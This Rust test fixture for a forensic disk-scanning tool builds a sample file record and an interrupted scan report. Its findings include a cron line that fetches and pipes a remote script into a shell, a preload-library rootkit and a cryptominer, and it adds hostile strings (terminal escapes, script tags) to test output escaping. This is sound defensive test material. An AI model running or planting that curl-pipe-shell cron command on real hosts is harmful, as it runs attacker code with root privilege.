//! A report and a record to test writers with: everything filled in, some of it hostile.

use std::collections::BTreeMap;

use cleanroom_contract::{
    BundleFile, Coverage, EntryKind, EntryState, EvidencePath, EvidenceSource, FileRecord, Finding,
    Gap, GapKind, Replay, ReplayMeans, Report, RuleDiagnostic, RuleFile, Run, RunState, ScanState,
    Severity, SeverityCounts, Sha256, Summary, Timestamp, VersionOne, VolumeRecord, VolumeState,
};

/// A record of a small program, last changed in November 2023.
pub(crate) fn file(path: &str) -> FileRecord {
    let at = |seconds| Timestamp { seconds, nanos: 500 };
    FileRecord {
        v: VersionOne,
        seq: 0,
        volume: "disk.img:p1".to_owned(),
        path: EvidencePath::new(path.as_bytes()),
        kind: EntryKind::File,
        size: 5,
        allocated: 4096,
        mode: 0o755,
        uid: 1000,
        gid: 100,
        inode: 4711,
        links: 1,
        atime: at(1_700_000_000),
        mtime: at(1_700_000_001),
        ctime: at(1_700_000_002),
        btime: None,
        target: None,
        device: None,
        xattrs: BTreeMap::from([("user.x|\n".to_owned(), "AA==".to_owned())]),
        attributes: Vec::new(),
        state: EntryState::Allocated,
        member: Vec::new(),
        stream: None,
        sha256: Some(digest(1)),
        md5: None,
        sha1: None,
        extents: None,
        entropy: Some(1.25),
        format: None,
        scan: ScanState::Clean,
        matches: Vec::new(),
        binary: None,
        indicators: Vec::new(),
        truncated: false,
    }
}

fn digest(seed: u8) -> Sha256 {
    let mut bytes = [seed; 32];
    for (byte, add) in bytes.iter_mut().zip(0_u8..) {
        *byte = byte.wrapping_mul(37).wrapping_add(add.wrapping_mul(11));
    }
    Sha256(bytes)
}

fn finding(severity: Severity, title: &str, reason: &str, path: &[u8]) -> Finding {
    Finding {
        v: VersionOne,
        id: format!("{:016x}", 0x9e37_79b9_7f4a_7c15_u64.wrapping_mul(path.len() as u64 + 1)),
        severity,
        title: title.to_owned(),
        reason: reason.to_owned(),
        technique: None,
        volume: "vol-0123456789abcdef0:p1".to_owned(),
        path: Some(EvidencePath::new(path)),
        evidence: None,
        source: "systemd".to_owned(),
        author: None,
        sha256: None,
    }
}

fn findings() -> Vec<Finding> {
    let critical = |title, reason, path| finding(Severity::Critical, title, reason, path);
    vec![
        Finding {
            technique: Some("T1574.006".to_owned()),
            evidence: Some("/usr/lib/x86_64-linux-gnu/libkeyutils-1.so".to_owned()),
            source: "dynamic-linker".to_owned(),
            sha256: Some(digest(2)),
            ..critical(
                "A library is loaded into every process",
                "/etc/ld.so.preload names a library that no package of the host owns. The library exists and \
                 was changed 4 minutes before the alert.",
                b"/etc/ld.so.preload",
            )
        },
        Finding {
            technique: Some("T1496".to_owned()),
            source: "rule:miners/linux.yar:XMRig_Linux_Miner".to_owned(),
            author: Some("Rule Author <author@example.org>".to_owned()),
            sha256: Some(digest(3)),
            ..critical(
                "Cryptocurrency miner",
                "The rule matched 14 of its 16 patterns; the first is the pool protocol.",
                b"/var/tmp/.X11-unix/\x1b[2J\xff/a-directory-with-a-rather-long-name-that-goes-on-and-on-and-on-and-on/\xd8\xae\xe2\x80\xae/kworker|u8:2",
            )
        },
        Finding {
            technique: Some("T1053.003".to_owned()),
            evidence: Some(
                "*/5 * * * * root curl -fsSL http://203.0.113.7/i.sh | sh >/dev/null 2>&1 # <script>alert(1)</script>"
                    .to_owned(),
            ),
            source: "cron".to_owned(),
            ..finding(
                Severity::High,
                "A job fetches and runs a script",
                "The line downloads over plain HTTP and pipes the answer into a shell.",
                b"/etc/cron.d/0hourly",
            )
        },
        finding(
            Severity::Medium,
            "A program may gain privilege from an unusual place",
            "Set-user-ID root, outside the directories in which packages put such programs.",
            b"/opt/.cache/su",
        ),
        finding(
            Severity::Low,
            "A key may log in as root",
            "One key, whose comment is \"<b>admin</b>@build\".",
            b"/root/.ssh/authorized_keys",
        ),
        Finding { path: None, ..finding(Severity::Info, "Times lie in the future", "2 files.", b"") },
    ]
}

fn gap(kind: GapKind, path: Option<&[u8]>, reason: &str, advice: Option<&str>, count: u64) -> Gap {
    Gap {
        v: VersionOne,
        kind,
        volume: (kind != GapKind::Interrupted).then(|| "vol-0123456789abcdef0:p1".to_owned()),
        path: path.map(EvidencePath::new),
        reason: reason.to_owned(),
        advice: advice.map(str::to_owned),
        count,
    }
}

fn volumes() -> Vec<VolumeRecord> {
    let root = VolumeRecord {
        v: VersionOne,
        volume: "vol-0123456789abcdef0:p1".to_owned(),
        evidence: "/dev/nvme1n1".to_owned(),
        content: "ext4".to_owned(),
        offset: Some(1_048_576),
        length: Some(53_686_025_728),
        uuid: Some("3e6be9de-8139-4a2b-9d4f-1c2b3a4d5e6f".to_owned()),
        label: Some("cloudimg-rootfs".to_owned()),
        partition_name: None,
        unreplayed_journal: Some("needs_recovery is set".to_owned()),
        replayed: None,
        view: ["ro", "noexec", "nodev", "nosuid", "noload", "errors=continue"]
            .map(Into::into)
            .into(),
        state: VolumeState::Incomplete,
    };
    let data = VolumeRecord {
        volume: "vol-0fedcba9876543210".to_owned(),
        evidence: "/dev/nvme2n1".to_owned(),
        content: "xfs".to_owned(),
        offset: Some(0),
        length: Some(17_592_186_044_416),
        label: Some("data<1>\\u{1b}".to_owned()),
        unreplayed_journal: None,
        replayed: Some(Replay {
            reason: "the log is dirty".to_owned(),
            means: ReplayMeans::DeviceMapper,
        }),
        view: ["ro", "noexec", "nodev", "nosuid", "nouuid"].map(Into::into).into(),
        state: VolumeState::Examined,
        ..root.clone()
    };
    let locked = VolumeRecord {
        volume: "vol-0123456789abcdef0:p2".to_owned(),
        content: "luks".to_owned(),
        offset: Some(53_687_074_304),
        length: Some(16_384),
        uuid: None,
        label: None,
        partition_name: Some("secrets".to_owned()),
        view: Vec::new(),
        unreplayed_journal: None,
        state: VolumeState::NotExamined,
        ..root.clone()
    };
    vec![root, locked, data]
}

fn run() -> Run {
    Run {
        id: "4f1d3c2b5a6978879605142332415060".to_owned(),
        started: Timestamp { seconds: 1_772_368_496, nanos: 1 },
        ended: Timestamp { seconds: 1_772_372_219, nanos: 2 },
        agent: "cleanroom-agent 0.1.0".to_owned(),
        agent_sha256: Some(digest(9)),
        arguments: [
            "scan",
            "/dev/nvme1n1",
            "/dev/nvme2n1",
            "--rules",
            "rules/",
            "--out",
            "/bundles/1",
        ]
        .map(Into::into)
        .into(),
        host: "ip-10-0-0-7".to_owned(),
        kernel: "6.1.119-129.201.amzn2023.x86_64".to_owned(),
        state: RunState::Interrupted,
    }
}

fn bundle_files() -> Vec<BundleFile> {
    [
        ("findings.jsonl", 18_211, 4),
        ("files.jsonl.zst", 412_336_128, 5),
        ("gaps.jsonl", 402_117, 6),
        ("timeline.body", 1_402_336_128, 7),
    ]
    .map(|(name, size, seed)| BundleFile { name: name.to_owned(), size, sha256: digest(seed) })
    .into()
}

/// An interrupted scan of three volumes with findings of each severity.
pub(crate) fn report() -> Report {
    let counts = BTreeMap::from([
        (Severity::Critical, 2),
        (Severity::High, 3),
        (Severity::Medium, 4),
        (Severity::Low, 4),
        (Severity::Info, 1),
    ]);
    Report {
        v: VersionOne,
        case: "2026-03-01.web-7".parse().ok(),
        examiner: Some("A. Examiner".to_owned()),
        evidence_id: Some("EX-2026-0117/3".to_owned()),
        notes: vec!["Snapshots taken 09:41 UTC, before isolation.".to_owned()],
        run: run(),
        evidence: vec![
            EvidenceSource {
                name: "vol-0123456789abcdef0".to_owned(),
                given: "/dev/nvme1n1".to_owned(),
                kind: "device".to_owned(),
                size: Some(53_687_091_200),
                partition_table: Some("gpt".to_owned()),
            },
            EvidenceSource {
                name: "vol-0fedcba9876543210".to_owned(),
                given: "/dev/nvme2n1".to_owned(),
                kind: "device".to_owned(),
                size: Some(17_592_186_044_416),
                partition_table: None,
            },
        ],
        volumes: volumes(),
        rules: vec![RuleFile {
            path: "rules/miners/linux.yar".to_owned(),
            sha256: digest(11),
            entries: 212,
        }],
        indicators: vec![RuleFile {
            path: "lists/known-bad.sha256".to_owned(),
            sha256: digest(12),
            entries: 48_113,
        }],
        rule_diagnostics: vec![RuleDiagnostic {
            path: "rules/old/webshells.yar".to_owned(),
            line: 118,
            column: 9,
            message: "unknown identifier `vt`".to_owned(),
            error: true,
        }],
        limits: BTreeMap::from([
            ("max-file-size".to_owned(), "1 TiB".to_owned()),
            ("timeout".to_owned(), "60 s a file".to_owned()),
        ]),
        summary: Summary {
            v: VersionOne,
            entries: 412_907,
            files: 350_112,
            bytes: 39_902_341_120,
            findings: SeverityCounts(counts),
            gaps: 1_284,
            complete: false,
        },
        coverage: Coverage {
            volumes: 3,
            volumes_examined: 1,
            entries: 412_907,
            files: 350_112,
            files_examined: 348_901,
            gaps: BTreeMap::from([
                (GapKind::Unreadable, 1_204),
                (GapKind::Partial, 7),
                (GapKind::Unmounted, 1),
                (GapKind::Interrupted, 1),
                (GapKind::Timeout, 71),
            ]),
        },
        worst: findings(),
        gaps: vec![
            gap(
                GapKind::Interrupted,
                None,
                "stopped by SIGINT 62 minutes in",
                Some("scan again"),
                1,
            ),
            gap(
                GapKind::Unmounted,
                None,
                "LUKS header: encrypted, no key",
                Some("give the key, or image the memory"),
                1,
            ),
            gap(
                GapKind::Unreadable,
                Some(b"/var/lib/mysql/ib\x1b[31mdata1"),
                "read at 1048576: I/O error",
                None,
                1_204,
            ),
            gap(
                GapKind::Partial,
                Some(b"/swapfile"),
                "larger than memory for one file: judged in blocks",
                Some("raise --max-memory"),
                7,
            ),
            gap(GapKind::Timeout, Some(b"/srv/a.zip"), "60 s", None, 71),
        ],
        files: bundle_files(),
    }
}
